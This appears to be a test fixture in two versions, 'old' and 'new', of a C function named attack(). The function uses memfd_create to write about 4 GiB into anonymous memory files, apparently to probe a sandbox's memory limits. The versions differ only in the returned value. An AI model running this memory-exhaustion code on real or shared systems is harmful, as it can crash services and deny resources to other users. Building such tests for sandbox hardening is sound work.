//// old
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    static const char block[1 << 20];
    for (int i = 0; i < 4; i++) {
        int file = syscall(SYS_memfd_create, "x", 0);
        for (int k = 0; k < 1000; k++) syscall(SYS_write, file, block, sizeof block);
    }
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    static const char block[1 << 20];
    for (int i = 0; i < 4; i++) {
        int file = syscall(SYS_memfd_create, "x", 0);
        for (int k = 0; k < 1000; k++) syscall(SYS_write, file, block, sizeof block);
    }
    return x + 1;
}
